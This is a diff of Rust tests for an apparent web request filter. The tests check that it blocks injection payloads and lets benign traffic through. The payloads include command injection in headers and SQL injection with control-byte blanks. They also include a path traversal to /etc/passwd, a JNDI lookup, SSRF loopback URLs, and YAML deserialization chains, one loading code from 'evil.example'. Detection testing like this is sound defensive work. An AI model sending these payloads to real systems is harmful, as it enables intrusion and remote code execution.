@@ -8,7 +8,7 @@
 mod common;
 
 use common::{
-    assert_queries, form_blocked, header_blocked, json_blocked, multipart_blocked, query_blocked,
+    assert_header, assert_queries, form_blocked, json_blocked, multipart_blocked, query_blocked,
     verdict,
 };
 
@@ -272,16 +272,21 @@ fn names_are_inspected_in_every_placement() {
 /// Before: score 0 each.
 #[test]
 fn command_injection_in_x_forwarded_for() {
-    for v in ["127.0.0.1;whoami", "127.0.0.1$(id)", "10.0.0.1`id`"] {
-        assert!(header_blocked("X-Forwarded-For", v.as_bytes()), "{v}");
-    }
-    for v in [
-        "203.0.113.5, 10.0.0.1",
-        "2001:db8::1, 10.0.0.1",
-        "unknown, 10.0.0.1",
-    ] {
-        assert!(!header_blocked("X-Forwarded-For", v.as_bytes()), "{v}");
-    }
+    let xff = "X-Forwarded-For";
+    assert_header(
+        xff,
+        true,
+        &["127.0.0.1;whoami", "127.0.0.1$(id)", "10.0.0.1`id`"],
+    );
+    assert_header(
+        xff,
+        false,
+        &[
+            "203.0.113.5, 10.0.0.1",
+            "2001:db8::1, 10.0.0.1",
+            "unknown, 10.0.0.1",
+        ],
+    );
 }
 
 /// `..%%32%66` decodes to `../` in two rounds (the inner `%32%66` first,
@@ -368,6 +373,76 @@ fn union_values_table_and_bang_not() {
             "q=union+values+and+rights",
             "q=it's+the+union+table+at+noon",
             "q=wow!+(great)",
+        ],
+    );
+}
+
+/// Session 9: a cookie's *name* is read like a query name (CRS reads
+/// REQUEST_COOKIES_NAMES for SQL, command, traversal and Java rules):
+/// applications iterate their cookies and log them. Before: score 0 each.
+#[test]
+fn cookie_names_are_inspected() {
+    assert_header(
+        "Cookie",
+        true,
+        &[
+            "a=b; 1' union select password from users--=1",
+            "a=b; ../../../etc/passwd=1",
+            "a=b; ${jndi:ldap://x.example/a}=1",
+            "a=b; $(id)=1",
+        ],
+    );
+    assert_header(
+        "Cookie",
+        false,
+        &[
+            "_ga=GA1.2.3; _ga_ABC123=GS1.1.1; wp_woocommerce_session_0a1b=7||1733913600||1733910000||8e4b",
+            "AMCV_1234%40AdobeOrg=x; __Secure-3PSID=abc; OptanonConsent=isIABGlobal=false&datestamp=Mon",
+            "cart.items=2; user-prefs=dark; _dd_s=rum=0&expire=1",
+        ],
+    );
+}
+
+/// Session 9: SQL Server takes the control bytes 0x01-0x0f as blanks
+/// (sqlmap's `space2mssqlblank` tamper); the tokenizer does too. (0x10-0x1f
+/// stay word bytes: a scrambled legit-dev cookie holds `"\x1e#`, which read
+/// as blank would be a quote then a comment.) Before: score 0 each.
+#[test]
+fn control_bytes_as_sql_blanks() {
+    assert_queries(
+        true,
+        &[
+            "id=1%27%01union%01select%01password%01from%01users--",
+            "id=1%27%0funion%0fselect%0fpassword%0ffrom%0fusers--",
+            "id=1%27%08or%0e1=1--",
+        ],
+    );
+}
+
+/// Session 9: loopback written short (`127.1`, `0`: inet_aton reads both)
+/// in a fetched URL, and unsafe YAML deserialization tags. Before: score
+/// 0 each but the SnakeYAML line (10, as Java: rules 7002, 7005).
+#[test]
+fn short_loopback_urls_and_yaml_object_tags() {
+    assert_queries(
+        true,
+        &[
+            "url=http://127.1/admin",
+            "url=http://0/",
+            "url=http://0:8080/admin",
+            "doc=!!python/object/apply:os.system+[%22id%22]",
+            "doc=a:+!!python/name:os.system",
+            "doc=!ruby/object:Gem::Installer+i:+x",
+            "doc=!!javax.script.ScriptEngineManager+[!!java.net.URLClassLoader+[[!!java.net.URL+[%22http://evil.example/%22]]]]",
+        ],
+    );
+    assert_queries(
+        false,
+        &[
+            "url=https://shop.example/p/127.1",
+            "q=version+127.1+released",
+            "q=python+yaml+tags+tutorial",
+            "q=Great!!+python/django+job",
         ],
     );
 }
